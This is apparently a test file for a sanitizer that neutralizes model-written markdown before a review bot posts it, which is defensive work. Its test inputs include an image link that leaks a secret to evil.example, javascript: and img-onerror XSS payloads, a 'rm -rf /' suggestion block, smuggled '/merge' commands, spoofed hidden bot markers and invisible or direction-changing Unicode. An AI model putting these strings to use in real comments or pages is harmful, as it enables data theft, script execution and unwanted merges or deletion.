// Text of others in our comments: it may say anything and must do nothing.
import { describe, expect, it } from 'vitest'
import { codeFence, codeSpan, neutralizeLine, neutralizeMarkdown } from '../src/workflows/neutralize.ts'

const clean = (text: string, maxLength = 1000) => neutralizeMarkdown(text, { maxLength })

describe('case 44: text of a model is neutralised or cut', () => {
  it('drops images and links to other hosts, and keeps their words', () => {
    expect(clean('see ![pixel](https://evil.example/p.png?secret=1) and [docs](https://evil.example)')).toBe(
      'see pixel and docs',
    )
    expect(clean('![x][ref]\n\n[ref]: https://evil.example/p.png')).not.toMatch(/\[ref\]:|https:\/\/evil/)
    expect(clean('[a [b]](https://evil.example) [![i](https://evil.example)](https://evil.example)')).not.toMatch(
      /\]\(|https:\/\/evil/,
    )
    expect(clean('plain https://evil.example/path')).not.toContain('https://evil')
    expect(clean('<https://evil.example>')).not.toContain('https://evil')
    expect(clean('[x](javascript:alert(1))')).not.toContain('javascript:')
  })
  it('keeps links that are known', () => {
    const text = '[a](https://forge.example/o/r/pull/1)'
    expect(neutralizeMarkdown(text, { maxLength: 99, allowedLinks: ['https://forge.example/'] })).toBe(text)
  })
  it('breaks up mentions, closing references and commands', () => {
    expect(clean('thanks @everyone and @org/team')).not.toMatch(/@(everyone|org)/)
    expect(clean('Fixes #1, closes owner/repo#2, GH-3')).not.toMatch(/#\d|GH-3/)
    for (const text of ['/merge', 'ok\n/merge', 'ok\r/merge', 'ok\r\n  /merge', 'ok\u2028/merge']) {
      expect(clean(text)).not.toMatch(/^\s*\/merge/m)
    }
  })
  it('lets no HTML, hidden comment or marker of ours through, in code neither', () => {
    expect(clean('<img src=x onerror=alert(1)>')).not.toContain('<')
    expect(clean('<!-- umpire:finding abc -->')).not.toContain('<!--')
    expect(clean('`<!-- umpire:finding abc -->`')).not.toContain('<!-- umpire:')
    expect(clean('```\n<!-- umpire:review v=1 -->\n```')).not.toContain('<!-- umpire:')
    expect(codeFence('suggestion', 'x <!-- umpire:finding abc -->')).not.toContain('<!-- umpire:')
  })
  it('closes a code fence that is left open, and makes no suggestion of a block', () => {
    const text = `${clean('look:\n```suggestion\nrm -rf /\n')}\nafter`
    expect(text).toBe('look:\n```\nrm -rf /\n\n```\n\nafter')
  })
  it('keeps code as it is, with fences that its content cannot end', () => {
    expect(clean('call `a@b.c` or `x[0](y)`')).toBe('call `a@b.c` or `x[0](y)`')
    expect(codeSpan('a`b')).toBe('``a`b``')
    expect(codeFence('', 'a\n```\nb')).toBe('````\na\n```\nb\n````')
  })
  it('turns an unpaired backtick into a quote, so that it swallows nothing of ours', () => {
    expect(clean('an ` alone @everyone')).not.toContain('@everyone')
  })
  it('removes control characters, hidden and direction-changing text', () => {
    expect(clean('a\u202eb\u200bc\u0007d\u{e0041}e')).toBe('abcde')
    expect(clean('lone \ud800 half')).toBe('lone \ufffd half')
  })
  it('cuts 70,000 characters', () => {
    expect(clean('x'.repeat(70_000), 500)).toHaveLength(500)
  })
  it('keeps a heading on its line and in its cell', () => {
    expect(neutralizeLine('a | b\n\n# c', 100)).toBe('a \\| b # c')
  })
  it('stays linear on hostile text', () => {
    for (const unit of ['[', '`', '![', '<', '[](', '@#/', '``` \n', '` `` ']) {
      expect(clean(unit.repeat(20_000), 70_000).length).toBeGreaterThan(0)
    }
  })
})
